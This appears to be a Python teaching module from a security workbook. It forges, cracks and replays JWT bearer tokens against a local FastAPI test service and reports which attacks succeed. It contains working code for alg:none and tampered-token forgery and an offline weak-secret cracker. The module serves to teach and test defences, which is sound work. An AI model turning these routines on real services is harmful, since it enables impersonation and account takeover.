"""Lesson 02: forged, replayed and leftover bearer tokens.

Every attack sends one real request (``GET /users/me`` with ``Authorization: Bearer ...``) and
succeeds when the service answers 200 as someone the token should not make the caller:

- **forged by the attacker**, who knows no key: ``alg: none``, a tampered payload kept with
  its old signature, a signature made with another key, and a key cracked offline from a
  list of weak secrets (ASVS 5.0 9.1.1, 9.1.2; API2:2023 "accepts unsigned/weakly signed JWT
  tokens", "uses weak encryption keys");
- **signed with the service's own key but not valid here or now**: another algorithm than
  the service's, expired, not yet valid, with no expiry, with no or another audience, from
  another issuer (ASVS 9.1.2, 9.2.1, 9.2.3). An attacker cannot make these; they turn up in
  old logs, from an older release, or from another service that shares the key, so the
  scene signs them with the service's key and the attack replays them;
- **left over**: a token still used after its owner logged out (ASVS 7.4.1), and a token of
  an account that was deleted (ASVS 7.4.2).

Tokens are built by hand here (base64url, JSON and HMAC from the standard library), so that
what a JWT is stays visible: ``header.claims.signature``, the first two only encoded, not
encrypted.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache
from importlib import resources
from typing import Any

import httpx2
from fastapi import FastAPI
from fastapi.testclient import TestClient

from lessons import tokens
from lessons.attacks import Account, AttackResult, new_password, seed
from lessons.settings import Settings

ATTACKER, VICTIM, LEAVER = "mallory", "alice", "bob"

# The layer of "The attack": tokens made and read the way many tutorials do it.
NAIVE_LAYER: dict[str, Any] = {
    "issue_token": tokens.issue_token_naive,
    "decode_token": tokens.decode_token_naive,
    "identity": tokens.bearer_identity_naive,
}

DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}

Claims = dict[str, Any]


# -- what a JWT is ---------------------------------------------------------------------------


def b64url(data: bytes) -> str:
    """Base64url without padding, the encoding of each part of a JWT (RFC 7515)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def read_token(token: str) -> tuple[dict[str, Any], Claims]:
    """The header and claims of a token, as anyone can read them: no key, no check."""
    header, claims, _signature = token.split(".")
    return json.loads(unb64url(header)), json.loads(unb64url(claims))


def sign(header: dict[str, Any], claims: Claims, key: str | None) -> str:
    """A JWT made by hand: base64url(header) . base64url(claims) . base64url(HMAC).

    The MAC covers the first two parts exactly as sent. With ``alg: none`` there is no key and
    the signature part is empty.
    """
    signing_input = ".".join(
        b64url(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims)
    )
    if header.get("alg") == "none" or key is None:
        return signing_input + "."
    mac = hmac.new(key.encode(), signing_input.encode(), DIGESTS[header["alg"]]).digest()
    return signing_input + "." + b64url(mac)


def hs256(claims: Claims, key: str) -> str:
    return sign({"alg": "HS256", "typ": "JWT"}, claims, key)


# -- the scene: a service with three accounts ------------------------------------------------


class SceneError(RuntimeError):
    """The scene could not be set up (say, logging in failed): no verdict on the attack."""


@dataclass
class Scene:
    """A service to attack, with alice (the victim), mallory (the attacker, with an ordinary
    account of her own) and bob (whose account will be deleted)."""

    app: FastAPI
    client: TestClient
    accounts: dict[str, Account]

    @property
    def settings(self) -> Settings:
        return self.app.state.service.settings

    def login(self, username: str) -> str:
        """A real token from ``POST /auth/token`` (the OAuth2 password form)."""
        account = self.accounts[username]
        response = self.client.post(
            "/auth/token", data={"username": account.username, "password": account.password})
        if response.status_code != 200:
            raise SceneError(f"{username} could not log in: POST /auth/token answered "
                             f"{response.status_code} {response.text[:120]}")
        return str(response.json()["access_token"])

    def me(self, token: str) -> httpx2.Response:
        return self.client.get("/users/me", headers={"Authorization": f"Bearer {token}"})

    def service_signed(self, username: str = VICTIM, alg: str = "HS256",
                       **changes: Any) -> str:
        """A token signed with this service's own key: part of the scene, not of the attack."""
        return service_signed(self.settings, username, alg, **changes)


def service_claims(settings: Settings, username: str = VICTIM, **changes: Any) -> Claims:
    """Claims such as the service itself issues, with ``changes`` (None removes a claim)."""
    now = int(time.time())
    claims: Claims = {
        "sub": username, "iat": now, "nbf": now, "exp": now + settings.token_minutes * 60,
        "iss": settings.token_issuer, "aud": settings.token_audience,
        "jti": secrets.token_urlsafe(16), "scope": "notes:read notes:write",
    }
    claims.update(changes)
    return {name: value for name, value in claims.items() if value is not None}


def service_signed(settings: Settings, username: str = VICTIM, alg: str = "HS256",
                   **changes: Any) -> str:
    """A token signed with the service's key, with ``changes`` to its claims."""
    return sign({"alg": alg, "typ": "JWT"}, service_claims(settings, username, **changes),
                settings.secret_key)


def stage(app: FastAPI) -> Scene:
    """Seed alice, mallory and bob (random passwords, properly hashed) into ``app``."""
    people = seed(app, *(Account(name, new_password()) for name in (VICTIM, ATTACKER, LEAVER)),
                  notes_each=0)
    return Scene(app=app, client=TestClient(app), accounts=people)


def judge(name: str, response: httpx2.Response, as_user: str, before: str = "") -> AttackResult:
    """The attack succeeded if the service answered 200 as ``as_user``."""
    body = response.json() if response.headers.get("content-type") == "application/json" else {}
    succeeded = response.status_code == 200 and body.get("username") == as_user
    if response.status_code == 200:
        outcome = f"HTTP 200, signed in as {body.get('username')}"
    else:
        outcome = f"HTTP {response.status_code}: {body.get('detail', response.reason_phrase)}"
    return AttackResult(name=name, succeeded=succeeded, evidence=before + outcome)


# -- forged by the attacker, from her own token ----------------------------------------------


def alg_none(scene: Scene) -> AttackResult:
    """Take your own token, name alice in it, say ``alg: none`` and send no signature."""
    _, claims = read_token(scene.login(ATTACKER))
    forged = sign({"alg": "none", "typ": "JWT"}, {**claims, "sub": VICTIM}, key=None)
    return judge("alg: none, an unsigned token naming alice", scene.me(forged), VICTIM)


def tampered(scene: Scene) -> AttackResult:
    """Change ``sub`` in your own token and keep its header and signature as they were."""
    header, claims, signature = scene.login(ATTACKER).split(".")
    changed = json.loads(unb64url(claims)) | {"sub": VICTIM}
    forged = f"{header}.{b64url(json.dumps(changed).encode())}.{signature}"
    return judge("tampered claims, sub changed to alice, old signature", scene.me(forged), VICTIM)


def other_key(scene: Scene) -> AttackResult:
    """Sign a token naming alice with a key of your own: a perfect HS256 token, wrong key."""
    _, claims = read_token(scene.login(ATTACKER))
    forged = hs256({**claims, "sub": VICTIM}, secrets.token_urlsafe(32))
    return judge("a token naming alice, signed with the attacker's key", scene.me(forged), VICTIM)


@cache
def weak_secrets() -> tuple[str, ...]:
    """The workbook's short list of weak signing secrets (lessons/data/weak_jwt_secrets.txt)."""
    text = resources.files("lessons").joinpath("data/weak_jwt_secrets.txt").read_text("utf-8")
    return tuple(line.strip() for line in text.splitlines()
                 if line.strip() and not line.startswith("#"))


def with_weak_secret(settings: Settings) -> Settings:
    """VULNERABLE: ``settings`` signing with a word from the weak list, chosen at random.

    ``Settings.from_env`` refuses a key shorter than 32 characters; ``replace`` skips that
    check, as a key hard-coded in source would.
    """
    return settings.replace(secret_key=secrets.choice(weak_secrets()))


def crack(token: str, words: Sequence[str]) -> str | None:
    """The word that signs ``token`` (HS256), found offline: one HMAC per guess, no request."""
    header, _ = read_token(token)
    digest = DIGESTS.get(header.get("alg", ""))
    if digest is None:
        return None
    signing_input, _, signature = token.rpartition(".")
    expected = unb64url(signature)
    for word in words:
        if hmac.compare_digest(hmac.new(word.encode(), signing_input.encode(), digest).digest(),
                               expected):
            return word
    return None


def weak_secret(scene: Scene, words: Sequence[str] | None = None) -> AttackResult:
    """Crack the key from your own token with a word list, then sign a token naming alice."""
    words = weak_secrets() if words is None else words
    name = "a token naming alice, signed with a key cracked from a word list"
    token = scene.login(ATTACKER)
    key = crack(token, words)
    if key is None:
        return AttackResult(name, False, f"none of the {len(words)} words in the list signs "
                                         "the service's tokens")
    header, claims = read_token(token)
    changes = {"sub": VICTIM} | ({"jti": secrets.token_urlsafe(16)} if "jti" in claims else {})
    forged = sign(header, claims | changes, key)
    return judge(name, scene.me(forged), VICTIM,
                 before=f"the key is one of the {len(words)} words in the list; forged token: ")


# -- signed with the service's key, but not valid here or now --------------------------------


def other_algorithm(scene: Scene) -> AttackResult:
    """A token for alice in HS512, made with the right key: the service chose HS256."""
    return judge("HS512 (not the service's algorithm), right key",
                 scene.me(scene.service_signed(alg="HS512")), VICTIM)


def expired(scene: Scene) -> AttackResult:
    """alice's token from an hour ago, found in a log."""
    now = int(time.time())
    token = scene.service_signed(iat=now - 3600, nbf=now - 3600, exp=now - 2700)
    return judge("expired 45 minutes ago", scene.me(token), VICTIM)


def not_yet_valid(scene: Scene) -> AttackResult:
    """A token for alice that only becomes valid in an hour."""
    now = int(time.time())
    token = scene.service_signed(iat=now, nbf=now + 3600, exp=now + 4500)
    return judge("not valid before an hour from now", scene.me(token), VICTIM)


def no_expiry(scene: Scene) -> AttackResult:
    """A token for alice with no ``exp``, as an older release issued them: valid forever."""
    return judge("no exp: never expires", scene.me(scene.service_signed(exp=None)), VICTIM)


def no_audience(scene: Scene) -> AttackResult:
    """A token for alice that names no audience at all."""
    return judge("no aud: meant for no service in particular",
                 scene.me(scene.service_signed(aud=None)), VICTIM)


def wrong_audience(scene: Scene) -> AttackResult:
    """alice's token for another API of the same issuer, replayed here."""
    return judge("aud is another API (billing-api)",
                 scene.me(scene.service_signed(aud="billing-api")), VICTIM)


def wrong_issuer(scene: Scene) -> AttackResult:
    """A token for alice from another issuer that shares the key (say, a staging system)."""
    return judge("iss is another issuer (staging-issuer)",
                 scene.me(scene.service_signed(iss="staging-issuer")), VICTIM)


# -- left over -------------------------------------------------------------------------------


def revoked(scene: Scene) -> AttackResult:
    """mallory logs out; whoever copied her token (a shared computer, a log) still uses it."""
    token = scene.login(ATTACKER)
    auth = {"Authorization": f"Bearer {token}"}
    logout = scene.client.post("/auth/logout", headers=auth)
    return judge("the same token after logging out", scene.me(token), ATTACKER,
                 before=f"logout answered {logout.status_code}; then ")


def deleted_user(scene: Scene) -> AttackResult:
    """bob's account is deleted (he left); the token he had keeps working?"""
    token = scene.login(LEAVER)
    scene.app.state.service.store.delete_user(LEAVER)
    return judge("a token of bob, whose account was deleted", scene.me(token), LEAVER)


Attack = Callable[[Scene], AttackResult]

FORGED: tuple[Attack, ...] = (alg_none, tampered, other_key)
SERVICE_SIGNED: tuple[Attack, ...] = (other_algorithm, expired, not_yet_valid, no_expiry,
                                      no_audience, wrong_audience, wrong_issuer)
LEFT_OVER: tuple[Attack, ...] = (revoked, deleted_user)
# Every attack on one service; deleted_user last, since it removes an account. The weak
# secret needs a service with a weak key, so it is run on its own.
ATTACKS: tuple[Attack, ...] = FORGED + SERVICE_SIGNED + LEFT_OVER


def run_all(app: FastAPI, attacks: Sequence[Attack] = ATTACKS) -> list[AttackResult]:
    """Stage ``app`` and run ``attacks`` on it, in order."""
    scene = stage(app)
    return [attack(scene) for attack in attacks]


def table(results: Sequence[AttackResult]) -> str:
    """One line per attack: whether it succeeded, what it was, what the service answered."""
    width = max(len(r.name) for r in results)
    return "\n".join(
        f"{'SUCCEEDED' if r.succeeded else 'failed':9}  {r.name.ljust(width)}  {r.evidence}"
        for r in results
    )
